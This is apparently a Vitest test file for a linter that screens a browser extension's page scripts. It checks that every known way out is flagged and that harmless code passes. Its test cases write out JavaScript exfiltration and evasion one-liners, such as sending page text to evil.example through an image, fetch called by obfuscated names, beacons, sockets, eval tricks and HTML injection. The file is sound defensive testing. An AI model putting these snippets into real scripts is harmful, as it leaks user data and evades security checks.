import { describe, expect, test } from 'vitest';
import { lintScript } from '../../../src/build/lint-script.mjs';

/** As the build makes page scripts: strict, in a function of their own. */
const inScript = (code: string) => `"use strict";(()=>{${code}})();`;
const lint = (code: string, exceptions?: Record<string, number>) => lintScript(inScript(code), exceptions);

describe('FAULTS 2.7: the lint of page scripts finds every way out that we know', () => {
  test.each([
    ['an image that is asked for', 'new Image().src="https://evil.example/?"+document.body.textContent'],
    ['an image of the page', 'document.createElement("img").src="https://evil.example"'],
    ['a frame', 'const f=document.createElement("iframe");f.src="https://evil.example";'],
    ['a link that is fetched ahead', 'const l=document.createElement("link");l.href="https://evil.example"'],
    [
      'an attribute',
      'document.body.setAttribute("background","https://evil.example");document.body.setAttribute("src","x")',
    ],
    ['an attribute that runs code', 'document.body.setAttribute("onclick","alert(1)")'],
    ['a worker', 'new Worker("w.js")'],
    ['a shared worker by way of the window', 'new window.SharedWorker("w.js")'],
    ['fetch', 'fetch("https://evil.example")'],
    ['fetch of the window', 'window.fetch("https://evil.example")'],
    ['fetch by a computed name', 'window["fe"+"tch"]("https://evil.example")'],
    ['fetch by a name in a variable', 'const n="fetch";globalThis[n]("https://evil.example")'],
    ['fetch by a name that only running it tells', 'const n=atob("ZmV0Y2g=");globalThis[n]("x")'],
    ['fetch taken out of the global object', 'const {fetch:f}=globalThis;f("x")'],
    ['fetch of the global this', 'this.fetch("x")'],
    ['fetch by way of an event', 'addEventListener("click",e=>e.view.fetch("x"))'],
    ['fetch by way of an element', 'document.body.ownerDocument.defaultView.fetch("x")'],
    ['fetch of a frame', 'document.body.firstChild.contentWindow.fetch("x")'],
    ['the window under another name', 'const w=window;w.open("x")'],
    ['self', 'self.open("https://evil.example")'],
    ['a new window', 'open("https://evil.example")'],
    ['another address', 'location.href="https://evil.example"'],
    ['another address of the window', 'window.location="https://evil.example"'],
    ['another address by a method', 'location.assign("https://evil.example")'],
    ['a form of the page', 'const f=document.querySelector("form");f.action="https://evil.example";f.submit()'],
    ['a beacon', 'navigator.sendBeacon("https://evil.example","x")'],
    ['a socket', 'new WebSocket("wss://evil.example")'],
    ['a peer connection', 'new RTCPeerConnection()'],
    ['events of a server', 'new EventSource("https://evil.example")'],
    ['text as code', 'eval("1")'],
    ['text as code, indirectly', '(0,eval)("1")'],
    ['text as a function', 'new Function("return 1")'],
    ['text as a function by a constructor', '[].at.constructor("return this")()'],
    ['text as a function by a computed constructor', '[].at["const"+"ructor"]("return this")()'],
    ['an import', 'import("https://evil.example/x.js")'],
    ['HTML', 'document.body.innerHTML="<img src=x>"'],
    ['HTML beside', 'document.body.insertAdjacentHTML("beforeend","<img src=x>")'],
    ['HTML by a command', 'document.execCommand("insertHTML",false,"<img src=x>")'],
    ['HTML written', 'document.write("<img src=x>")'],
    [
      'a style that loads',
      'const s=document.createElement("style");s.textContent="a{background:url(https://evil.example)}"',
    ],
    ['a style sheet that loads', 'new CSSStyleSheet().replaceSync(`@import "https://evil.example"`)'],
    ['a style property that loads', 'document.body.style.backgroundImage=document.title'],
    ['a cookie', 'document.cookie="a=b"'],
    ['storage of the page', 'localStorage.setItem("a","b")'],
    ['storage of the extension', 'chrome.storage.local.get()'],
    ['other messages of the extension', 'chrome.runtime.sendNativeMessage("a",{})'],
    ['an element that only running it tells', 'document.createElement(document.title)'],
    ['an image in JSX', 'const jsx=(...a)=>a;jsx("img",{src:"https://evil.example"})'],
  ])('%s', (_, code) => {
    expect(lint(code)).not.toEqual([]);
  });
});

describe('what page scripts do is left alone', () => {
  test.each([
    [
      'elements of ours',
      'const d=document.createElement("div");d.textContent="x";d.dataset.action="x";document.body.append(d)',
    ],
    ['our host, by a constant', 'const H="ka-varda";document.createElement(H)'],
    ['doors between our scripts', 'globalThis.kaVardaEngine={};const {kaVardaActive:a}=globalThis;'],
    ['listeners', 'window.addEventListener("click",()=>{},{capture:true})'],
    ['the extension', '(typeof browser>"u"?chrome:browser).runtime.sendMessage({type:"engine"})'],
    ['editing', 'document.execCommand("insertText",false,"x")'],
    ['typed text', 'document.createEvent("TextEvent").initTextEvent("textInput",true,true,window,"x")'],
    ['a link', 'const jsx=(...a)=>a;jsx("a",{href:"https://likumi.lv"})'],
    ['own methods of any name', 'const o={open(){},send(){}};o.open();o.send()'],
  ])('%s', (_, code) => {
    expect(lint(code)).toEqual([]);
  });
});

test('an error names the place', () => {
  expect(lintScript('"use strict";\n(()=>{\n  fetch("x");\n})();')).toEqual(['3:2 uses fetch']);
});

test('an exception is counted, and one that is not needed is an error', () => {
  const code = 'const make=(tag)=>document.createElement(tag);make("p")';
  expect(lint(code, { 'element by variable': 1 })).toEqual([]);
  expect(
    lint(`${code};const other=(tag)=>document.createElement(tag);other("b")`, { 'element by variable': 1 }),
  ).toHaveLength(1);
  expect(lint('1', { 'element by variable': 1 })).toEqual([
    'the exception "element by variable" is not needed any more',
  ]);
});
